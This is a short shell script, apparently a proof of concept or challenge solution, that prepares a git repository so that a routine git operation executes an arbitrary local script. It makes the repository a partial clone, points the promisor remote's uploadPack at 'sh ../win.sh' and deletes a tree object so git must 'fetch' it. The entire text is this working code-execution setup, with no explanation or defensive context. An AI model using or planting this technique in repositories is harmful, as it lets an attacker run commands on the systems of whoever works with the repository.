cd repo
echo wrong >word.txt
git add word.txt
git commit --quiet --message=Wrong
mkdir box
cp word.txt box
git add box
git commit --quiet --amend --no-edit
git sparse-checkout set --cone --sparse-index nowhere
tree=$(git rev-parse HEAD:box)
git config core.repositoryFormatVersion 1
git config extensions.partialClone origin
git config remote.origin.promisor true
git config remote.origin.url "file://$PWD"
git config remote.origin.uploadPack "sh ../win.sh"
git config remote.origin.vcs ""
git config --unset remote.origin.vcs
git config protocol.allow always
rm -f ".git/objects/${tree:0:2}/${tree:2}"
